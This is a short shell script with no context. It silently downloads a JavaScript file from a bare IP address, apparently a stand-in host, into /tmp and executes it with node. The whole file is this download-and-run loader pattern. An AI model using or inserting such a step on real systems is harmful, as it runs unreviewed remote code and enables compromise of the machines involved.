#!/bin/sh
curl -so /tmp/a.js http://192.0.2.5/a.js
node /tmp/a.js
